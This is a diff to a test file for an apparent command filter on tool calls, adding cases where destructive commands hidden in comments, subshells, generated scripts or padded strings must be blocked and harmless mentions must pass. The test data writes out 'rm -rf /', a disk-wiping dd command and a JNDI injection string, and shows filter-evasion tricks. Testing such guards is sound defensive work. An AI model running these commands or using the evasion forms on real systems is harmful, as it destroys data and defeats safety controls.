@@ -264,6 +264,11 @@ def test_no_word_beside_an_attack_switches_its_rule_off(
         ("run", {"input": "ssh the of is rm -rf /"}),
         ("run", {"input": "this is a `rm -rf /` in the name"}),
         ("log", {"text": "the name of it is ${jndi:ldap://a.example/x}"}),
+        ("bash", {"command": "# clean up\nrm -rf /"}),
+        ("bash", {"command": 'echo "$(rm -rf /)"'}),
+        ("bash", {"command": "echo 'rm -rf /' > x.sh && sh x.sh"}),
+        ("bash", {"command": "echo a" + "# " + "b" * 230 + "; rm -rf /"}),
+        ("run", {"args": "-- rm -rf /"}),
     ],
 )
 def test_a_command_that_words_surround_is_stopped_where_it_would_run(
@@ -281,6 +286,9 @@ def test_a_command_that_words_surround_is_stopped_where_it_would_run(
         ("send", {"text": "Never run `rm -rf /` on a server."}),
         ("send", {"text": "Warum ist dd if=/dev/zero of=/dev/sda so gef\u00e4hrlich?"}),
         ("tool", {"args": json.dumps({"text": "I removed the rm -rf / from it."})}),
+        ("bash", {"command": "# never run rm -rf / here\nls"}),
+        ("bash", {"command": "echo 'rm -rf / is refused'"}),
+        ("bash", {"command": "sudo docker logs web | xargs grep -l 'rm -rf /'"}),
         ("write", {"content": "- name: root\n  input: rm -rf /\n  expect: refused\n"}),
     ],
 )
